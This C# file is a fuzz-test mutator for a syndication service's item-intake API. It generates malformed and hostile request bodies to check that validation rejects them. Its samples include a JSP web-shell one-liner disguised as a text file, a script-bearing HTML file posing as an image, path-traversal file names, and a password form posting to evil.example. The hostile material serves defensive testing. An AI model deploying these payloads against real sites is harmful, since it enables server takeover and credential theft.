using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Syndicator.Reliability.Tests.Fuzz;

/// <summary>One mutated <c>POST /api/items</c>: the id it was built with, the bytes sent, their content type and what was done.</summary>
public sealed record FuzzCase(string Id, byte[] Body, string? ContentType, string Mutations);

/// <summary>
/// Turns the sample items (DESIGN §5) into hostile variants, reproducibly from one <see cref="Random"/>: fields
/// dropped, duplicated, retyped or nulled, huge strings, deep nesting, bad base64 and media types, control characters,
/// invalid UTF-8, numbers as strings, unknown categories and channels, bodies over the size limit.
/// </summary>
public sealed class IntakeMutator(Random random, IReadOnlyList<JsonObject> samples, int maxRequestBytes)
{
    private const string OnePixelPng = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

    /// <summary>Chinese as UTF-8 bytes (as the approval system sends it), and nesting as deep as a mutation makes it.</summary>
    private static readonly JsonSerializerOptions Writer = new()
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
        MaxDepth = 4_096,
    };

    private static readonly string[] NodeMutations =
    [
        "drop", "drop", "retype", "retype", "null", "null", "number-as-string", "huge-string", "deep-nesting", "bad-base64",
        "media-type", "control-chars", "category", "channels", "unknown-field", "id", "revision", "dates", "overrides", "image",
        "body-reference", "trailing-newline", "file-name", "disguised-file", "deep-body", "public-page",
    ];

    /// <summary>A form asking for a password and a full-page overlay: what the body policy keeps off a government page.</summary>
    public const string FormAndOverlay =
        "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"pw\"><button>登录</button></form>"
        + "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">请重新登录</div>";

    private static readonly string[] ByteMutations = ["invalid-utf8", "truncate", "duplicate-field", "raw-control", "oversized", "number-token", "content-type"];

    public FuzzCase Next(string id)
    {
        var item = (JsonObject)samples[random.Next(samples.Count)].DeepClone();
        item["id"] = id;
        item.Remove("channels");
        var done = new List<string>();

        // One case in eight goes unmutated, so valid items flow beside the hostile ones.
        var mutations = random.Next(8) == 0 ? 0 : random.Next(1, 4);
        var byteLevel = new List<string>();
        for (var i = 0; i < mutations; i++)
        {
            if (random.Next(4) == 0)
            {
                byteLevel.Add(ByteMutations[random.Next(ByteMutations.Length)]);
            }
            else
            {
                var kind = NodeMutations[random.Next(NodeMutations.Length)];
                done.Add(kind + ":" + Mutate(item, kind));
            }
        }

        var body = Encoding.UTF8.GetBytes(item.ToJsonString(Writer));
        string? contentType = "application/json";
        foreach (var kind in byteLevel)
        {
            (body, contentType) = MutateBytes(body, contentType, kind);
            done.Add(kind);
        }

        return new FuzzCase(item["id"] is JsonValue v && v.TryGetValue<string>(out var s) ? s : id, body, contentType, string.Join(", ", done));
    }

    private string Mutate(JsonObject item, string kind)
    {
        switch (kind)
        {
            case "drop":
                return PickMember(item) is var (parent, key) ? Remove(parent, key) : "nothing";
            case "retype":
                return PickMember(item) is var (p1, k1) ? Set(p1, k1, AnyValue()) : "nothing";
            case "null":
                return PickMember(item) is var (p2, k2) ? Set(p2, k2, null) : "nothing";
            case "number-as-string":
                item["revision"] = "1";
                return "revision";
            case "huge-string":
                return Strings(item) is var (p3, k3) ? Set(p3, k3, new string('长', Pick(1_000, 20_000, 200_000, maxRequestBytes / 2))) : "nothing";
            case "deep-nesting":
                return Set(item, Pick("extra", "body", "approval", "images"), Nest(Pick(17, 64, 1_000)));
            case "bad-base64":
                var encoded = Pick("!!!", "abc", "====", "YWJj\n", "aGVsbG8=garbage", "ÿÿÿ", "");
                File(item)["contentBase64"] = encoded;
                return encoded;
            case "media-type":
                var file = File(item);
                file["mediaType"] = Pick("text/html", "image/svg+xml", "application/x-msdownload", "", "image/jpeg; charset=x", "../../etc");
                return file["mediaType"]!.ToString();
            case "control-chars":
                return Strings(item) is var (p4, k4) && Get(p4, k4) is JsonValue old && old.TryGetValue<string>(out var text)
                    ? Set(p4, k4, text.Insert(random.Next(text.Length + 1), Pick("\0", "\u0001", "\u001b[31m", "\u007f", "\u2028", "\ufeff", "\ud800", "\uffff", "\r\n\t")))
                    : "nothing";
            case "category":
                item["category"] = Pick("不存在的分类", "", " 工作信息", "工作信息\0", "WORK");
                return item["category"]!.ToString();
            case "channels":
                item["channels"] = Pick<JsonNode>(new JsonArray("nowhere"), new JsonArray("portal", "portal"), new JsonArray(), new JsonArray((JsonNode?)null), new JsonArray("PORTAL"), JsonValue.Create("portal")!);
                return item["channels"]!.ToJsonString();
            case "unknown-field":
                item[Pick("zzz", "Title", "__proto__", "id ")] = AnyValue();
                return "added";
            case "id":
                item["id"] = Pick("", "a b", new string('a', 65), new string('b', 64), "../etc/passwd", "中文编号", "x\u0000y", "dup-fuzz-id");
                return item["id"]!.ToString();
            case "revision":
                item["revision"] = Pick<JsonNode>(JsonValue.Create(0), JsonValue.Create(-5), JsonValue.Create(int.MaxValue), JsonValue.Create(2147483648L), JsonValue.Create(1.5), JsonValue.Create(1e300));
                return item["revision"]!.ToJsonString();
            case "dates":
                var field = Pick("writtenOn", "publishAt");
                item[field] = Pick("2026-13-45", "yesterday", "0000-00-00", "9999-12-31T23:59:59+99:00", "2026-03-01T25:00:00Z");
                return field;
            case "overrides":
                item["overrides"] = Pick<JsonNode>(
                    new JsonObject { ["wechat"] = new JsonObject { ["title"] = new string('题', 200) } },
                    new JsonObject { ["nowhere"] = new JsonObject() },
                    new JsonObject { ["wechat"] = null },
                    new JsonArray(1, 2));
                return item["overrides"]!.ToJsonString().Length.ToString(System.Globalization.CultureInfo.InvariantCulture);
            case "body-reference":
                return AppendToBody(item, Pick("&#1;", "&#x1;", "&#0;", "&#xFFFE;", "&#xD800;", "&#27", "&#x1F;"));
            case "trailing-newline":
                var named = Pick("id", "indexNumber");
                var kept = item["id"] is JsonValue v && v.TryGetValue<string>(out var current) ? current : "fz";
                item[named] = (named == "id" ? kept : "002482285/2026-00042") + Pick("\n", "\r\n", "\r");
                return named;
            case "file-name":
                File(item)["name"] = Pick("a\r\nb.png", "fig\n1.png", new string('名', 1_000_000), "../../etc/passwd", "CON.png", " .png", "x.png.");
                return "name";
            case "disguised-file":
                return Disguise(item);
            case "deep-body":
                return AppendToBody(item, string.Concat(Enumerable.Repeat(Pick("<div>", "<div/>", "<b>", "<ul><li>"), Pick(65, 1_000, 45_000))));
            case "public-page":
                return AppendToBody(item, FormAndOverlay);
            default:
                AddImage(item);
                return "image";
        }
    }

    private static string AppendToBody(JsonObject item, string markup)
    {
        if (item["body"] is JsonObject body && body["content"] is JsonValue content && content.TryGetValue<string>(out var text))
        {
            body["content"] = text + markup;
            return markup.Length > 40 ? markup[..40] + "…" : markup;
        }

        return "no body";
    }

    /// <summary>A file whose name says something other than its declared type: a JSP as text, HTML as an image.</summary>
    private string Disguise(JsonObject item)
    {
        var (list, name, type, content) = Pick(
            ("attachments", "shell.jsp", "text/plain", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
            ("images", "x.html", "image/png", "<html><script>alert(1)</script></html>"),
            ("attachments", "report.pdf.exe", "application/pdf", "MZ\u0090\u0000"));
        var file = new JsonObject { ["name"] = name, ["mediaType"] = type, ["contentBase64"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(content)) };
        item[list] = new JsonArray(file);
        return name;
    }

    private (byte[] Body, string? ContentType) MutateBytes(byte[] body, string? contentType, string kind)
    {
        var at = StringStart(body);
        return kind switch
        {
            "invalid-utf8" => (Insert(body, at, Pick<byte[]>([0xFF], [0xC3, 0x28], [0xED, 0xA0, 0x80], [0xE6, 0x96], [0xF8, 0x88, 0x80, 0x80, 0x80])), contentType),
            "truncate" => (body[..random.Next(body.Length)], contentType),
            "duplicate-field" => (Insert(body, 1, Encoding.UTF8.GetBytes(Pick("\"title\":\"重复\",", "\"id\":\"dup-fuzz-id\",", "\"revision\":2,", "\"body\":null,"))), contentType),
            "raw-control" => (Insert(body, at, [(byte)random.Next(0, 32)]), contentType),
            "oversized" => ([.. body, .. Enumerable.Repeat((byte)' ', Math.Max(0, maxRequestBytes - body.Length) + random.Next(1, 100_000))], contentType),
            "number-token" => (Replace(body, "\"revision\":1", Pick("\"revision\":1e400", "\"revision\":01", "\"revision\":NaN", "\"revision\":-0", "\"revision\":0x1")), contentType),
            _ => (body, Pick<string?>("text/plain", "application/x-www-form-urlencoded", null, "application/json; charset=utf-16", "multipart/form-data")),
        };
    }

    private JsonObject File(JsonObject item)
    {
        var list = Pick("images", "attachments");
        if (item[list] is not JsonArray { Count: > 0 } files || files[0] is not JsonObject first)
        {
            AddImage(item);
            return (JsonObject)item["images"]![0]!;
        }

        return first;
    }

    private static void AddImage(JsonObject item)
    {
        item["images"] = new JsonArray(new JsonObject { ["name"] = "fig1.png", ["mediaType"] = "image/png", ["contentBase64"] = OnePixelPng });
        if (item["body"] is JsonObject body)
        {
            body["content"] = body["content"] + "<p><img src=\"fig1.png\"></p>";
        }
    }

    /// <summary>A random member or element anywhere in the tree.</summary>
    private (JsonNode Parent, object Key)? PickMember(JsonNode root)
    {
        var all = new List<(JsonNode, object)>();
        Walk(root, all);
        return all.Count == 0 ? null : all[random.Next(all.Count)];
    }

    private (JsonNode Parent, object Key)? Strings(JsonNode root)
    {
        var all = new List<(JsonNode Parent, object Key)>();
        Walk(root, all);
        var strings = all.Where(e => Get(e.Parent, e.Key) is JsonValue v && v.GetValueKind() == JsonValueKind.String).ToList();
        return strings.Count == 0 ? null : strings[random.Next(strings.Count)];
    }

    private static void Walk(JsonNode node, List<(JsonNode, object)> all)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var (key, child) in o.ToList())
                {
                    all.Add((o, key));
                    if (child is not null)
                    {
                        Walk(child, all);
                    }
                }

                break;
            case JsonArray a:
                for (var i = 0; i < a.Count; i++)
                {
                    all.Add((a, i));
                    if (a[i] is { } child)
                    {
                        Walk(child, all);
                    }
                }

                break;
        }
    }

    private static JsonNode? Get(JsonNode parent, object key) => key is string name ? parent[name] : parent[(int)key];

    private static string Set(JsonNode parent, object key, JsonNode? value)
    {
        if (key is string name)
        {
            parent[name] = value;
        }
        else
        {
            parent[(int)key] = value;
        }

        return key.ToString()!;
    }

    private static string Remove(JsonNode parent, object key)
    {
        if (key is string name)
        {
            ((JsonObject)parent).Remove(name);
        }
        else
        {
            ((JsonArray)parent).RemoveAt((int)key);
        }

        return key.ToString()!;
    }

    private JsonNode? AnyValue() => Pick<JsonNode?>(
        JsonValue.Create(0), JsonValue.Create(-1), JsonValue.Create(1.5), JsonValue.Create(""), JsonValue.Create("x"), JsonValue.Create(true), null,
        new JsonArray(), new JsonObject(), new JsonArray(1, "a"), new JsonObject { ["a"] = 1 });

    private static JsonNode Nest(int depth)
    {
        JsonNode node = new JsonArray();
        for (var i = 0; i < depth; i++)
        {
            node = new JsonArray(node);
        }

        return node;
    }

    /// <summary>Just inside a string value (after a quote), so a byte lands where text is expected.</summary>
    private int StringStart(byte[] body)
    {
        var quotes = Enumerable.Range(0, body.Length).Where(i => body[i] == (byte)'"').ToList();
        return quotes.Count == 0 ? 0 : quotes[random.Next(quotes.Count)] + 1;
    }

    private static byte[] Insert(byte[] body, int at, byte[] bytes) => [.. body[..at], .. bytes, .. body[at..]];

    private static byte[] Replace(byte[] body, string what, string with) =>
        Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(body).Replace(what, with, StringComparison.Ordinal));

    private T Pick<T>(params T[] choices) => choices[random.Next(choices.Length)];
}
